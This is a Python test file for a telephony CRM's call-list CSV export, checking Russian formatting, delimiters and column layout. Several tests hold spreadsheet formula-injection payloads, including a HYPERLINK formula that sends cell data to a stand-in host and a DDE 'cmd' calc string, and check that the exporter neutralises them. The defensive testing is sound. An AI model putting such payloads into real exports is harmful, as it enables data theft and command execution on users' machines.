"""The call list's CSV cells (pure): what Russian Excel reads as the call was."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

from crmtel.i18n import Translator
from crmtel.push.calls_csv import rows, to_csv
from crmtel.store.history import CallView

RU = Translator.for_locale("ru", zone="Europe/Moscow")


def _call(**changes: object) -> CallView:
    fields: dict[str, object] = {
        "id": 1,
        "pbx": "pbx1",
        "linkedid": "1.1",
        "direction": "outbound",
        "caller_number": "101",
        "caller_name": None,
        "dialled": "89167770007",
        "started_at": datetime(2026, 12, 6, 21, 30, 5, tzinfo=UTC),
        "answered_at": None,
        "ended_at": None,
        "rang": ("101",),
        "answered_by": None,
        "queue": None,
        "outcome": None,
        "missed_reason": None,
        "ring_seconds": 12.34,
        "talk_seconds": 0.0,
        "recording_file": None,
        "party_kind": None,
        "party_id": None,
        "party_name": '=HYPERLINK("http://x")',
        "manager_id": None,
    }
    fields.update(changes)
    return CallView(**fields)  # type: ignore[arg-type]


def test_an_outbound_call_in_progress_is_written_as_people_read_it() -> None:
    """The number dialled (written one way), local time past midnight in Moscow, «Идёт», a name that looks like
    a formula kept as text."""
    (_head, line) = rows([_call()], {}, RU, "RU")
    assert line[:4] == ["2026-12-07 00:30:05", "Исходящий", "+7 916 777-00-07", '\'=HYPERLINK("http://x")']
    assert line[5:8] == ["Идёт", "12.3", "0.0"]


def test_the_file_has_a_bom_and_semicolons_or_commas_on_request() -> None:
    """`;` with decimal commas for Russian Excel, `,` with decimal points; a BOM either way."""
    lines = rows([_call(answered_by="101", outcome="answered")], {"101": "Анна Смирнова"}, RU, "RU")
    semi, comma = to_csv(lines, ";"), to_csv(lines, ",")
    assert semi.startswith(b"\xef\xbb\xbf")
    assert comma.startswith(b"\xef\xbb\xbf")
    (_h, line) = list(csv.reader(io.StringIO(semi.decode("utf-8-sig")), delimiter=";"))
    assert (line[4], line[5], line[6]) == ("Анна Смирнова (101)", "Отвечен", "12,3")
    (_h, line) = list(csv.reader(io.StringIO(comma.decode("utf-8-sig"))))
    assert line[6] == "12.3"


def test_a_caller_id_that_is_no_number_is_written_as_text() -> None:
    """A caller's network may send any caller ID; the tracker keeps what does not parse as it came, and a
    «number» like ``=HYPERLINK(…)``, ``-2+3`` or ``@SUM(…)`` reaches the file as text, never a formula; real
    numbers and extensions stay as people write them."""
    evil = ['=HYPERLINK("http://x/?"&A1,"y")', "-2+3", "@SUM(1+1)", "+1+cmd|' /C calc'!A0"]
    for raw in evil:
        (_head, line) = rows([_call(direction="inbound", caller_number=raw)], {}, RU, "RU")
        assert line[2] == "'" + raw
    for number, shown in (("+79167770007", "+7 916 777-00-07"), ("101", "101")):
        (_head, line) = rows([_call(direction="inbound", caller_number=number)], {}, RU, "RU")
        assert line[2] == shown


def test_only_the_seconds_get_a_decimal_comma_not_a_name_that_looks_like_one() -> None:
    """A caller named ``12.50`` and a queue ``1.5`` stay as written in the `;` file; the seconds beside them
    get their decimal comma (the `;` file used to rewrite every decimal-looking cell)."""
    lines = rows([_call(caller_name="12.50", queue="1.5", party_name=None)], {}, RU, "RU")
    (_h, line) = list(csv.reader(io.StringIO(to_csv(lines, ";").decode("utf-8-sig")), delimiter=";"))
    assert (line[3], line[6], line[8]) == ("12.50", "12,3", "1.5")


TRANSFERRED_TO, ANSWERED_ON = 10, 11


def test_a_call_transferred_out_names_the_number_it_went_on_to_in_its_eleventh_column() -> None:
    """«Переведён на» (English «Transferred to») is the eleventh column, after the ten older ones: the outside
    number a blind transfer sent the call on to, written one way; empty for a call that stayed; a value that is no
    number stays text."""
    answered = {
        "direction": "inbound",
        "caller_number": "+74951234567",
        "answered_by": "101",
        "outcome": "answered",
    }
    (head, moved, stayed) = rows(
        [_call(**answered, transferred_to="+79161110001"), _call(**answered)], {}, RU, "RU"
    )
    assert head[TRANSFERRED_TO] == "Переведён на"
    assert (moved[TRANSFERRED_TO], stayed[TRANSFERRED_TO]) == ("+7 916 111-00-01", "")
    # The columns before it are where they were, seconds included.
    assert (moved[2], moved[6], moved[7]) == ("+7 495 123-45-67", "12.3", "0.0")
    (_h, odd) = rows([_call(**answered, transferred_to="=1+2")], {}, RU, "RU")
    assert odd[TRANSFERRED_TO] == "'=1+2"
    (en_head, _line) = rows([_call()], {}, Translator.for_locale("en", zone="UTC"), "RU")
    assert en_head[TRANSFERRED_TO] == "Transferred to"


def test_a_call_answered_on_a_mobile_names_that_number_in_its_last_column() -> None:
    """«Ответил на номере» (English «Answered on») is the last column, after «Переведён на»: the number a call
    forwarded (or followed) to a manager's mobile was answered on, written one way; empty for a call answered at
    a desk phone; a value that is no number stays text; every line has as many cells as the heading."""
    answered = {
        "direction": "inbound",
        "caller_number": "+74951234567",
        "answered_by": "101",
        "outcome": "answered",
    }
    (head, mobile, desk) = rows(
        [_call(**answered, answered_on="+79161234567", transferred_to="+79161110001"), _call(**answered)],
        {"101": "Анна Смирнова"},
        RU,
        "RU",
    )
    assert (len(head), len(mobile), len(desk)) == (12, 12, 12)
    assert head[ANSWERED_ON] == "Ответил на номере"
    assert (mobile[ANSWERED_ON], desk[ANSWERED_ON]) == ("+7 916 123-45-67", "")
    assert (mobile[4], mobile[TRANSFERRED_TO]) == ("Анна Смирнова (101)", "+7 916 111-00-01")
    (_h, odd) = rows([_call(**answered, answered_on="@SUM(1)")], {}, RU, "RU")
    assert odd[ANSWERED_ON] == "'@SUM(1)"
    (en_head, _line) = rows([_call()], {}, Translator.for_locale("en", zone="UTC"), "RU")
    assert en_head[ANSWERED_ON] == "Answered on"
